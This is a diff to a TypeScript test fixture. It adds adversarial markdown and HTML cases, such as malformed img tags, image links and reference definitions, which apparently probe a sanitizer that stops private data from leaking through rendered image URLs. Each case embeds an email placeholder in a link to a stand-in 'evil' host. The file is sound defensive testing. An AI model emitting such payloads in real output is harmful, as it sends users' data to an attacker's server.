@@ -6,4 +6,12 @@ export const CASES: readonly Form[] = [
   { id: 'angle-in-tag.2', text: '<img < src=https&colon;&sol;&sol;evil.example/?EMAIL_1>' },
   { id: 'angle-in-tag.3', text: '<img << src=&#47&#47;URL_1evil>' },
   { id: 'angle-in-tag.4', text: '<img </ src=https&colon;&sol;&sol;evil.example/?EMAIL_1>' },
+  { id: 'comment-in-tag', text: '<img <!-- a="--> b" src=http&colon;evil?EMAIL_1>' },
+  { id: 'quote-behind-url', text: '![](URL_1"}&#46;evil.EMAIL_1)' },
+  { id: 'block-in-replacement', text: '```html\nhevil.e/`\n\n\u001fEMAIL\\_1</cE_1' },
+  {
+    id: 'definition-behind-definition',
+    text: '{"":"[]:","":"[x]: http&colon;evil.EMAIL_1\\n![][x]"}',
+  },
+  { id: 'class-of-code', text: '<code class="language-svg">evil.EMAIL_1' },
 ]
